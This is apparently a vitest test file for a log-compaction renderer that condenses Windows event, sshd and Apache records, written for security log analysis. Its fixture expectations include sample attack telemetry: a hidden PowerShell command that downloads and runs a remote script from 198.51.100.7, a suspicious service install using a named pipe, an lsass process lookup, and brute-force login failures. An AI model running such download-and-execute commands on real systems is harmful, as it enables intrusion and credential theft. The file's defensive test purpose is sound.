import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { fixture } from './importers/importer-test-support.ts';
import { parseWindowsXml } from './importers/windows-xml.ts';
import { recordText, renderCompact, renderCompactLog, renderRecords } from './render-compact.ts';

describe('renderCompact', () => {
  it('keeps the salient fields per channel and event id and drops GUIDs, SIDs and keywords', async () => {
    const events = parseWindowsXml(await readFile(fixture('windows-events.xml'), 'utf8'));
    const lines = events.map((e) => renderCompact(e));
    expect(lines[0]).toBe(
      '[sysmon 1 process-create] host=ws-017.corp.example Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe CommandLine="powershell.exe -nop -w hidden -c \\"IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')\\"" ParentImage=C:\\Windows\\explorer.exe ParentCommandLine=C:\\Windows\\Explorer.EXE User=CORP\\alice IntegrityLevel=Medium',
    );
    expect(lines[1]).toBe('[Security 4625 logon-failed] host=dc-01.corp.example TargetUserName=administrator TargetDomainName=CORP LogonType=3 IpAddress=203.0.113.50 Status=0xc000006d');
    expect(lines[2]).toBe('[System 7045 service-installed] host=ws-017.corp.example ServiceName=updater ImagePath="%COMSPEC% /c echo test > \\\\\\\\.\\\\pipe\\\\updater" ServiceType="user mode service" StartType="demand start" AccountName=LocalSystem');
    expect(lines[3]).toBe('[PowerShell 4104 script-block] host=ws-017.corp.example ScriptBlockText="Get-Process | Where-Object { $_.Name -eq \\"lsass\\" }"');
    for (const [i, e] of events.entries()) {
      expect(lines[i]!.length).toBeLessThan(e.log.length / 2);
      expect(lines[i]).not.toMatch(/S-1-5|[0-9a-f]{8}-[0-9a-f]{4}-|0x8000/i);
      expect(renderCompact(e)).toBe(lines[i]); // deterministic
    }
  });

  it('falls back to non-noise fields for unknown event ids and clips long values at both ends', () => {
    const line = renderCompact({ source: 'windows-event', fields: { EventID: '9999', Channel: 'Application', ProcessGuid: '{a1b2c3d4-0000-1111-2222-333344445555}', Zeta: 'z', Alpha: 'x'.repeat(400) + 'END' } }, { maxValueChars: 50 });
    expect(line).toBe(`[Application 9999] Alpha=${'x'.repeat(35)}…${'x'.repeat(11)}END Zeta=z`);
  });

  it('renders other formats from raw text and leaves unparseable text as it is', () => {
    expect(renderCompactLog('Mar  2 10:30:01 bastion sshd[2211]: Failed password for invalid user oracle from 203.0.113.9 port 40122 ssh2')).toBe(
      '[sshd] host=bastion program=sshd sshEvent=failed-login user=oracle sourceIp=203.0.113.9 message="Failed password for invalid user oracle from 203.0.113.9 port 40122 ssh2"',
    );
    expect(renderCompactLog('1.2.3.4 - - [02/Mar/2026:10:40:01 +0000] "GET /a?b=1 HTTP/1.1" 404 12 "-" "curl/8"')).toBe('[apache-access] clientIp=1.2.3.4 method=GET url=\"/a?b=1\" status=404 bytes=12 userAgent=curl/8');
    expect(renderCompactLog('EventID: 4688\nNewProcessName: C:\\x.exe\nCommandLine: x.exe -a')).toBe('[windows-event 4688 process-create] NewProcessName=C:\\x.exe CommandLine="x.exe -a"');
    expect(renderCompactLog('free text')).toBe('free text');
  });
});

describe('renderCompactLog on bursts', () => {
  it('renders one line per event and writes a run of identical lines once with its count', () => {
    const line = (ip: string) => `Mar 15 01:05:33 server sshd[1234]: Failed password for git from ${ip} port 22 ssh2`;
    expect(renderCompactLog([line('1.2.3.4'), line('1.2.3.4'), line('1.2.3.4'), line('5.6.7.8')].join('\n'))).toBe(
      '[sshd] host=server program=sshd sshEvent=failed-login user=git sourceIp=1.2.3.4 message="Failed password for git from 1.2.3.4 port 22 ssh2" (x3)\n[sshd] host=server program=sshd sshEvent=failed-login user=git sourceIp=5.6.7.8 message="Failed password for git from 5.6.7.8 port 22 ssh2"',
    );
  });
});

describe('renderCompactLog on a burst cut short', () => {
  it('keeps the lines that parse when they are at least half', () => {
    const line = 'Mar 15 01:05:33 server sshd[1234]: Failed password for git from 1.2.3.4 port 22 ssh2';
    expect(renderCompactLog(`${line}\n${line}\nMar 15 01:0`)).toMatch(/^\[sshd\] .* \(x2\)$/);
    expect(renderCompactLog('one line\nMar 15 01:0')).toBe('one line\nMar 15 01:0');
  });
});

describe('recordText: what a method sees under a sweep\'s logRendering', () => {
  it('gives the raw log, or the compact rendering of the parsed fields (of the log parsed again without them)', async () => {
    const [event] = parseWindowsXml(await readFile(fixture('windows-events.xml'), 'utf8'));
    const withFields = { log: event!.log, source: event!.source, fields: event!.fields };
    expect(recordText(withFields)).toBe(event!.log);
    expect(recordText(withFields, 'raw')).toBe(event!.log);
    expect(recordText(withFields, 'compact')).toBe(renderCompact(event!));
    expect(recordText({ log: event!.log, source: 'sysmon' }, 'compact')).toBe(renderCompactLog(event!.log));
    expect(recordText({ log: 'free text', source: 'x' }, 'compact')).toBe('free text');
    const [r] = renderRecords([{ id: 'a', ...withFields }], 'compact');
    expect(r).toMatchObject({ id: 'a', log: renderCompact(event!), fields: event!.fields });
  });
});
